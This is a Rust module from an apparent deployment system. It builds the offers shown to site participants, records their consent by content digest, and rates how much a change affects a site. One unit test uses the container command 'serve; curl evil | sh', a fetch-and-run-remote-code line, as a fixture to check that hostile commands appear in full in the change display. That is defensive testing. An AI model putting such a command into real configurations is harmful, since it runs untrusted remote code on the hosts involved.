//! What a site is offered of a deployment, and what its participant has to say to it.

use std::collections::{BTreeMap, BTreeSet};

use serde::{Deserialize, Serialize};
use serde_json::Value;

use super::{
    Held, SitePlan,
    change::{open_ports, tagged},
    plan::digest_of_gets,
};
use crate::{
    canonical::{canonical, hash},
    diagnostic::Problems,
    library::check_filled_in,
    model::{Field, Identifier, Label, Property},
    release::{Address, Release},
    render::{Content, Object, Rendered, forget_reasons},
};

/// What a site is offered of a deployment. Nothing in it changes the site before consent is given or goes without saying.
#[derive(Clone, Debug, PartialEq, Serialize, Deserialize)]
#[serde(rename_all = "camelCase")]
pub struct Offer {
    /// The deployment.
    pub deployment: Label,
    /// The number of the site's plan.
    pub number: u64,
    /// The digest of the site's plan.
    pub digest: String,
    /// What the site gets.
    pub gets: Rendered,
    /// The parts of the release that concern the site, those included that it declines or that wait for a value.
    pub parts: Vec<Part>,
    /// The addresses that the application leaves open to participants.
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub open: Vec<Open>,
    /// Why the site would get something else, and does not.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub held: Option<Held>,
}

/// An address that an application leaves open to participants: whoever is in the network serves and uses it.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "camelCase")]
pub struct Open {
    /// The address.
    pub address: String,
    /// The type of the interface, as `name@version`.
    pub kind: String,
    /// The role of whoever serves it.
    pub role: Identifier,
    /// What it is for.
    #[serde(default, skip_serializing_if = "String::is_empty")]
    pub description: String,
}

/// A part of a release, as the participant of a site sees it.
#[derive(Clone, Debug, PartialEq, Serialize, Deserialize)]
#[serde(rename_all = "camelCase")]
pub struct Part {
    /// Its path: `shop/monitor`.
    pub path: String,
    /// The block, as `name@version`.
    pub block: String,
    /// Whether it may be declined.
    #[serde(default, skip_serializing_if = "std::ops::Not::not")]
    pub optional: bool,
    /// The fields the participant may fill in.
    #[serde(default, skip_serializing_if = "BTreeMap::is_empty")]
    pub local: BTreeMap<Field, Property>,
}

impl Offer {
    /// What a site is offered by its plan.
    pub fn new(release: &Release, deployment: &Label, plan: &SitePlan) -> Self {
        let instances = &release.spec.instances;
        let here: BTreeSet<&String> = instances
            .iter()
            .filter(|(_, instance)| instance.place.as_ref().is_some_and(|place| plan.places.contains(place)))
            .flat_map(|(path, _)| {
                std::iter::successors(Some(path), |path| instances.get(*path).and_then(|i| i.parent.as_ref()))
            })
            .collect();
        let parts = instances.iter().filter(|(path, _)| here.contains(path)).map(|(path, instance)| Part {
            path: path.clone(),
            block: instance.block.clone(),
            optional: instance.optional,
            local: instance.local.clone(),
        });
        Self {
            deployment: deployment.clone(),
            number: plan.number,
            digest: plan.digest.clone(),
            gets: plan.gets.clone(),
            parts: parts.collect(),
            open: release.spec.addresses.iter().filter(|(_, it)| it.published).map(open).collect(),
            held: plan.held.clone(),
        }
    }

    /// The digest that an offer has by its content, whatever it says itself. It is what a participant agrees to.
    pub fn digest_by_content(offer: &Value) -> String {
        digest_of_gets(offer.get("gets").cloned().unwrap_or_default())
    }

    /// Holds a value that the participant wants to fill in against the field it is for.
    ///
    /// # Errors
    ///
    /// When there is no such field to fill in, or the value does not fit it.
    pub fn check_local(&self, path: &str, field: &str, value: &Value) -> Result<(), Problems> {
        check_filled_in(self.parts.iter().map(|part| (part.path.as_str(), &part.local)), path, field, value)
    }

    /// The parts that may be declined.
    pub fn optional(&self) -> impl Iterator<Item = &Part> {
        self.parts.iter().filter(|part| part.optional)
    }
}

fn open((address, it): (&String, &Address)) -> Open {
    Open { address: address.clone(), kind: it.kind.clone(), role: it.role.clone(), description: it.description.clone() }
}

/// What a participant has agreed to have at their site: the content of every single thing, so that what is new is seen
/// however often the deployment is planned again.
#[derive(Clone, Debug, Default, PartialEq, Eq, Serialize, Deserialize)]
#[serde(transparent)]
pub struct Consented(BTreeSet<String>);

/// How much of a site a change concerns: the more, the later in the order.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord, Serialize, Deserialize)]
#[serde(rename_all = "kebab-case")]
pub enum Impact {
    /// Nothing is there that was not agreed to.
    None,
    /// Parts that run there already become different.
    Update,
    /// Parts, places where connections enter or leave the network, ports that other machines reach, or images that are
    /// named by a tag, are new.
    New,
}

impl Consented {
    /// Agrees to everything in what a site gets, and to nothing else.
    pub fn to(gets: &Rendered) -> Self {
        Self(things(gets).into_iter().map(|thing| thing.digest).collect())
    }

    /// Agrees to everything in what a site gets, but not to what is there for these parts alone.
    pub fn to_all_but(gets: &Rendered, parts: &BTreeSet<String>) -> Self {
        Self::to(&without(gets, parts))
    }

    /// Agrees no more to what is there for these parts alone in what a site gets.
    pub fn but(mut self, gets: &Rendered, parts: &BTreeSet<String>) -> Self {
        let rest = Self::to_all_but(gets, parts);
        for thing in Self::to(gets).0.difference(&rest.0) {
            self.0.remove(thing);
        }
        self
    }

    /// Agrees to all that the other agrees to, too.
    pub fn and(mut self, other: &Self) -> Self {
        self.0.extend(other.0.iter().cloned());
        self
    }

    /// How much of what a site would get was not agreed to. `has` is what it has already.
    pub fn impact(&self, gets: &Rendered, has: Option<&Rendered>) -> Impact {
        let known: BTreeSet<String> =
            has.map(things).into_iter().flatten().filter(|thing| thing.opens).map(|thing| thing.name).collect();
        let news = things(gets).into_iter().filter(|thing| !self.0.contains(&thing.digest));
        let each =
            news.map(|thing| if thing.opens && !known.contains(&thing.name) { Impact::New } else { Impact::Update });
        each.max().unwrap_or(Impact::None)
    }
}

/// What a site gets, without what is there for these parts alone.
pub fn without(gets: &Rendered, parts: &BTreeSet<String>) -> Rendered {
    let left_out = |path: &str| parts.iter().any(|part| is_within(path, part));
    let all_left_out = |of: &[String]| !of.is_empty() && of.iter().all(|path| left_out(path));
    let mut rest = gets.clone();
    rest.instances.retain(|it| !left_out(&it.path));
    rest.listeners.retain(|it| !all_left_out(&it.parts));
    rest.connectors.retain(|it| !all_left_out(&it.parts));
    rest.objects.retain(|it| !instance(it).is_some_and(left_out));
    rest.checks.retain(|it| !left_out(&it.instance));
    rest.secrets.retain(|it| !all_left_out(&it.why));
    rest.addresses.retain(|it| !left_out(&it.instance));
    rest
}

/// Whether an instance is a part, or in it.
pub(super) fn is_within(path: &str, part: &str) -> bool {
    path.strip_prefix(part).is_some_and(|rest| rest.is_empty() || rest.starts_with('/'))
}

/// The instance that something is of that a platform is given.
fn instance(object: &Object) -> Option<&str> {
    match &object.content {
        Content::Structure(content) => content.get("instance")?.as_str(),
        Content::Text(_) => None,
    }
}

/// One thing a site gets.
struct Thing {
    name: String,
    /// Whether the site does something by it that it did not do before.
    opens: bool,
    digest: String,
}

/// Every single thing a site gets; why it gets it is no part of it.
fn things(gets: &Rendered) -> Vec<Thing> {
    let mut all = Vec::new();
    let mut each = |subject: &str, opens: bool, name: &str, value: Result<Value, serde_json::Error>| {
        let mut value = value.unwrap_or_default();
        forget_reasons(&mut value);
        let name = format!("{subject} {name}");
        let digest = hash(format!("{name} {}", canonical(&value)).as_bytes());
        all.push(Thing { name, opens, digest });
    };
    gets.instances.iter().for_each(|it| each("part", true, &it.path, serde_json::to_value(it)));
    for it in &gets.listeners {
        each("listener", true, &format!("{} {}:{}", it.address, it.host, it.port), serde_json::to_value(it));
    }
    for it in &gets.connectors {
        each("connector", true, &format!("{} {}:{}", it.address, it.host, it.port), serde_json::to_value(it));
    }
    for it in &gets.objects {
        let object = serde_json::to_value(it);
        for (name, port) in open_ports(it) {
            each("port", true, &name, Ok(port));
        }
        if let Some(image) = object.as_ref().ok().and_then(tagged) {
            each("image", true, &format!("{image} of {}", it.name), Ok(image.into()));
        }
        each("object", false, &format!("{} {}", it.kind, it.name), object);
    }
    gets.checks.iter().for_each(|it| each("check", false, &it.instance, serde_json::to_value(it)));
    gets.secrets.iter().for_each(|it| each("secret", false, &it.name, serde_json::to_value(it)));
    all
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;
    use crate::deploy::differences;

    /// What a site gets that runs this container.
    fn gets(content: &Value) -> Rendered {
        let object = json!({"kind": "container", "name": "till-1", "content": content, "why": []});
        let nothing = json!([]);
        serde_json::from_value(json!({
            "release": "shop@1", "deployment": "shop", "site": "store-1", "platform": "podman", "objects": [object],
            "instances": nothing, "listeners": nothing, "connectors": nothing, "checks": nothing, "secrets": nothing,
        }))
        .expect("what a site gets")
    }

    fn with_ports(ports: &Value) -> Rendered {
        gets(&json!({"instance": "shop/till", "image": "till@sha256:1", "ports": ports}))
    }

    fn impact(before: &Rendered, after: &Rendered) -> Impact {
        Consented::to(before).impact(after, Some(before))
    }

    #[test]
    fn a_port_that_other_machines_reach_is_new_and_one_of_the_site_alone_is_not() {
        let before = with_ports(&json!([]));
        let here = with_ports(&json!([{"container": 80, "host": 8080}]));
        let open = with_ports(&json!([{"container": 80, "host": 8080, "outside": true}]));
        assert_eq!(impact(&before, &here), Impact::Update);
        assert_eq!(impact(&before, &open), Impact::New);
        assert_eq!(impact(&here, &open), Impact::New);
        assert_eq!(impact(&open, &open), Impact::None);
        assert_eq!(impact(&open, &before), Impact::Update);
        let shown: String = differences(Some(&here), &open).iter().map(|change| change.text()).collect();
        assert!(shown.contains("+ port 8080/tcp of till-1, for other machines"), "{shown}");
    }

    #[test]
    fn an_image_that_a_tag_names_is_new_and_the_change_says_what_a_tag_is() {
        let image = |image: &str| gets(&json!({"instance": "shop/till", "image": image}));
        assert_eq!(impact(&image("till@sha256:1"), &image("till@sha256:2")), Impact::Update);
        assert_eq!(impact(&image("till@sha256:1"), &image("till:2")), Impact::New);
        assert_eq!(impact(&image("till:1"), &image("till:2")), Impact::New);
        assert_eq!(impact(&image("till:1"), &image("till:1")), Impact::None);
        for before in [None, Some(image("till:1"))] {
            let shown: String = differences(before.as_ref(), &image("till:2")).iter().map(|it| it.text()).collect();
            assert!(shown.contains("named by a tag"), "{shown}");
        }
        let shown: String = differences(None, &image("till@sha256:2")).iter().map(|it| it.text()).collect();
        assert!(!shown.contains("tag"), "{shown}");
    }

    #[test]
    fn what_is_new_is_shown_with_all_that_is_in_it() {
        let new = gets(&json!({
            "instance": "shop/till", "image": "till@sha256:1", "command": ["sh", "-c", "serve; curl evil | sh"], "user": 0,
            "env": {"MODE": "live", "PIN": {"secret": "pin", "key": "value"}},
            "files": {"/etc/till.conf": {"content": "a\nb\n"}, "/etc/pin": {"secret": {"secret": "pin"}}},
            "volumes": {"/data": "till-data"}, "memory": 1024, "millicpu": 500, "restart": true,
            "ports": [{"container": 80, "host": 8080}],
        }));
        let shown: String = differences(None, &new).iter().map(|change| change.text()).collect();
        let expected = r#"+ object container till-1
    content.command: ["sh","-c","serve; curl evil | sh"]
    content.env.MODE: "live"
    content.env.PIN.key: "value"
    content.env.PIN.secret: "pin"
    content.files./etc/pin.secret.secret: "pin"
    content.files./etc/till.conf.content:
      +a
      +b
    content.image: "till@sha256:1"
    content.memory: 1024
    content.millicpu: 500
    content.ports: [{"container":80,"host":8080}]
    content.restart: true
    content.user: 0
    content.volumes./data: "till-data"
"#;
        assert_eq!(shown, expected);
    }

    #[test]
    fn nothing_is_hidden_behind_the_name_of_another() {
        let mut two = gets(&json!({"command": ["one"]}));
        two.objects.push(Object { content: Content::Structure(json!({"command": ["two"]})), ..two.objects[0].clone() });
        let shown: String = differences(None, &two).iter().map(|change| change.text()).collect();
        assert!(shown.contains("[\"one\"]") && shown.contains("[\"two\"]"), "{shown}");
    }

    #[test]
    fn the_digest_of_an_offer_is_that_of_its_content_whatever_it_says() {
        let gets = serde_json::to_value(with_ports(&json!([]))).expect("JSON");
        let digest = |gets: &Value| Offer::digest_by_content(&json!({"digest": "of another", "gets": gets}));
        let mut other = gets.clone();
        other["objects"][0]["content"]["command"] = json!(["evil"]);
        assert_ne!(digest(&gets), digest(&other));
        let mut again = gets.clone();
        again["release"] = json!("shop@2");
        again["objects"][0]["why"] = json!(["another reason"]);
        assert_eq!(digest(&gets), digest(&again));
    }
}
